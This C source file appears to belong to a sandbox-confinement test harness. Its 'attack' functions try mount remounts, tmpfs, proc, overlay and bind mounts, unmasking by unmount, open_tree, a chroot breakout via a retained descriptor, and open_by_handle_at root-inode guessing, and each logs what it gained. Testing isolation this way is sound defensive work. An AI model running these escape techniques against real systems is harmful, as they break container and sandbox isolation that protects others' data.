/* Mounts and roots. Each is tried with the caller's own rights, and again in a user namespace of its own. */
#include "attacker.h"

#include "../shared/mount-flags.h"

#include <linux/fcntl.h>
#include <linux/sched.h>
#include <linux/stat.h>

/* linux/mount.h of Debian 12 has most; these calls are older than their names in it. */
enum {
    child_ms = 3000,
    create = 6 /* FSCONFIG_CMD_CREATE */,
    clone_tree = 1 /* OPEN_TREE_CLONE */,
    detach = 2 /* MNT_DETACH */
};

static void with_and_without_user(act *action)
{
    static const bool without = false, with = true;
    run_child(action, (void *)&without, child_ms);
    run_child(action, (void *)&with, child_ms);
}

static void remount_writable(const char *path)
{
    struct statfs status;
    if (kernel_call(__NR_statfs, path, &status) < 0)
        return;
    const unsigned long flags = mount_flags_of(&status) & ~(unsigned long)MS_RDONLY;
    did("remount", kernel_call(__NR_mount, 0, path, 0, MS_REMOUNT | MS_BIND | flags, 0));
    const struct mount_attr writable = {.attr_set = 0, .attr_clr = MOUNT_ATTR_RDONLY, .propagation = 0, .userns_fd = 0};
    did("set-attributes", kernel_call(__NR_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof writable));
}

static int remount(void *with_user)
{
    char path[path_room];
    if (!may_change_mounts(*(const bool *)with_user))
        return 0;
    join(path, sizeof path, key("read-only-file"), "", "");
    while (strcmp(path, "/") != 0) {
        remount_writable(path);
        parent_of(path, sizeof path, path);
    }
    remount_writable("/");
    did("write", write_path(key("read-only-file"), O_WRONLY | O_APPEND, mark()));
    return 0;
}

enum ending attack_remount(void)
{
    with_and_without_user(remount);
    return attempted;
}

/* The number of what a directory is on: a mount has another than the directory below it. */
static unsigned device_of(const char *path)
{
    struct statx status;
    memset(&status, 0, sizeof status);
    kernel_call(__NR_statx, AT_FDCWD, path, 0, STATX_BASIC_STATS, &status);
    return status.stx_dev_major << 20 | status.stx_dev_minor;
}

static void mount_each(void)
{
    char path[path_room], options[path_room];
    kernel_call(__NR_mkdirat, AT_FDCWD, "point", 0700);
    did("tmpfs", kernel_call(__NR_mount, "none", "point", "tmpfs", 0, 0));
    if (device_of("point") != device_of(".") && write_path("point/own", O_WRONLY | O_CREAT, "own") > 0)
        gained("a tmpfs mounted", "");
    kernel_call(__NR_mkdirat, AT_FDCWD, "point/proc", 0700);
    did("proc", kernel_call(__NR_mount, "none", "point/proc", "proc", 0, 0));
    if (device_of("point/proc") != device_of("point"))
        gained("a proc mounted", "");
    kernel_call(__NR_mkdirat, AT_FDCWD, "point/bind", 0700);
    kernel_call(__NR_mkdirat, AT_FDCWD, "point/overlay", 0700);
    join(options, sizeof options, "lowerdir=", parent_of(path, sizeof path, key("home-file")), ":point/bind");
    did("overlay", kernel_call(__NR_mount, "none", "point/overlay", "overlay", 0, options));
    tell_path("by-overlay", join(path, sizeof path, "point/overlay/", last_part(key("home-file")), ""));
    did("bind", kernel_call(__NR_mount, "/", "point/bind", 0, MS_BIND | MS_REC, 0));
    tell_path("by-bind", join(path, sizeof path, "point/bind", key("home-file"), ""));
    /* What is not mounted there is in the directory itself, where it has to go as well. */
    kernel_call(__NR_umount2, "point", detach);
    kernel_call(__NR_unlinkat, AT_FDCWD, "point/bind", AT_REMOVEDIR);
    kernel_call(__NR_unlinkat, AT_FDCWD, "point/overlay", AT_REMOVEDIR);
    kernel_call(__NR_unlinkat, AT_FDCWD, "point/proc", AT_REMOVEDIR);
}

static int mount_and_unmount(void *with_user)
{
    char path[path_room];
    if (!may_change_mounts(*(const bool *)with_user))
        return 0;
    if (enter_scratch()) {
        mount_each();
        leave_scratch();
    }
    join(path, sizeof path, key("home-file"), "", "");
    while (strcmp(path, "/") != 0) {
        const long result = kernel_call(__NR_umount2, path, detach);
        if (result != -EINVAL && result != -ENOENT)
            did("unmount", result);
        parent_of(path, sizeof path, path);
    }
    tell_path("unmasked", key("home-file"));
    return 0;
}

enum ending attack_mount(void)
{
    with_and_without_user(mount_and_unmount);
    return attempted;
}

static void make_file_system(void)
{
    char bytes[16];
    const long context = kernel_call(__NR_fsopen, "tmpfs", 0);
    did("fsopen", context);
    did("fsconfig", kernel_call(__NR_fsconfig, context, create, 0, 0, 0));
    const long system = kernel_call(__NR_fsmount, context, 0, 0);
    did("fsmount", system);
    if (system < 0)
        return;
    const long file = open_at(system, "own", O_RDWR | O_CREAT);
    if (kernel_call(__NR_write, file, "own", 3) == 3 && kernel_call(__NR_pread64, file, bytes, sizeof bytes, 0) == 3)
        gained("a file system of its own", "");
    did("move-mount", kernel_call(__NR_move_mount, system, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH));
}

static int mount_files(void *with_user)
{
    if (!may_change_mounts(*(const bool *)with_user))
        return 0;
    make_file_system();
    const long tree = kernel_call(__NR_open_tree, AT_FDCWD, "/", clone_tree | AT_RECURSIVE);
    did("open-tree", tree);
    if (tree >= 0)
        tell_open("by-tree", open_at(tree, key("home-file") + 1, O_RDONLY));
    return 0;
}

enum ending attack_mount_files(void)
{
    with_and_without_user(mount_files);
    return attempted;
}

static const char up[] = "../../../../../../../../../../../../../../../../../../../../../../../../../../../../..";

/* chroot(2): a directory outside of the root leads on to the real one. */
static int leave_root(void *with_user)
{
    if (*(const bool *)with_user)
        did("own-user", enter_namespaces(CLONE_NEWUSER));
    const long root = open_file("/", O_RDONLY | O_DIRECTORY);
    if (!enter_scratch())
        return 0;
    did("chroot", kernel_call(__NR_chroot, "."));
    did("retained", kernel_call(__NR_fchdir, root));
    for (int level = 0; level < 64; level++)
        kernel_call(__NR_chdir, "..");
    did("chroot-again", kernel_call(__NR_chroot, "."));
    tell_path("left-root", key("home-file"));
    leave_scratch();
    return 0;
}

enum ending attack_chroot(void)
{
    char path[path_room];
    join(path, sizeof path, up, key("home-file"), "");
    for (long descriptor = 3; descriptor < 256; descriptor++) {
        const long file = open_at(descriptor, path, O_RDONLY);
        if (file >= 0)
            tell_open("by-inherited", file);
    }
    with_and_without_user(leave_root);
    return attempted;
}

struct handle {
    unsigned length;
    int type;
    unsigned char bytes[128];
};

static int digit_of(char byte)
{
    return byte >= '0' && byte <= '9' ? byte - '0' : byte >= 'a' && byte <= 'f' ? byte - 'a' + 10 : -1;
}

static bool parse_handle(const char *text, struct handle *handle)
{
    handle->type = (int)parse_decimal(&text);
    if (*text++ != ':')
        return false;
    for (handle->length = 0; handle->length < sizeof handle->bytes; text += 2) {
        const int high = digit_of(text[0]), low = high < 0 ? -1 : digit_of(text[1]);
        if (low < 0)
            break;
        handle->bytes[handle->length++] = (unsigned char)(high * 16 + low);
    }
    return *text == '\0' && handle->length > 0;
}

static void tell_handle(const struct handle *handle)
{
    char text[2 * sizeof handle->bytes + 1];
    for (unsigned at = 0; at < handle->length; at++) {
        text[2 * at] = "0123456789abcdef"[handle->bytes[at] >> 4];
        text[2 * at + 1] = "0123456789abcdef"[handle->bytes[at] & 15];
    }
    text[2 * handle->length] = '\0';
    char words[sizeof text + number_room];
    saw_text("handle", join(words, sizeof words, decimal(handle->type), ":", text));
}

/* Handles of root directories: inode 2 of the ext family, 128 of XFS. */
static void open_root(long mount, unsigned inode)
{
    struct handle root = {.length = 8, .type = 1, .bytes = {(unsigned char)inode}};
    const long directory = kernel_call(__NR_open_by_handle_at, mount, &root, O_RDONLY | O_DIRECTORY);
    did("open-root", directory);
    if (directory >= 0)
        tell_open("below-root", open_at(directory, key("home-file") + 1, O_RDONLY));
}

static void open_handles(const char *mount_path)
{
    struct handle handle;
    const long mount = open_file(mount_path, O_RDONLY | O_DIRECTORY);
    did("mount", mount);
    if (key("file-handle") != 0 && parse_handle(key("file-handle"), &handle))
        tell_open("by-handle", kernel_call(__NR_open_by_handle_at, mount, &handle, O_RDONLY));
    open_root(mount, 2);
    open_root(mount, 128);
    close_file(mount);
}

enum ending attack_handles(void)
{
    struct handle handle = {.length = sizeof handle.bytes, .type = 0, .bytes = {0}};
    int mount_id = 0;
    const long named = kernel_call(__NR_name_to_handle_at, AT_FDCWD, key("home-file"), &handle, &mount_id, 0);
    did("name", named);
    if (named == 0 && handle.length <= sizeof handle.bytes) {
        char parent[path_room];
        tell_handle(&handle);
        const long mount = open_file(parent_of(parent, sizeof parent, key("home-file")), O_RDONLY);
        tell_open("named", kernel_call(__NR_open_by_handle_at, mount, &handle, O_RDONLY));
        close_file(mount);
    }
    open_handles("/");
    open_handles(".");
    open_handles("/proc/self");
    return attempted;
}
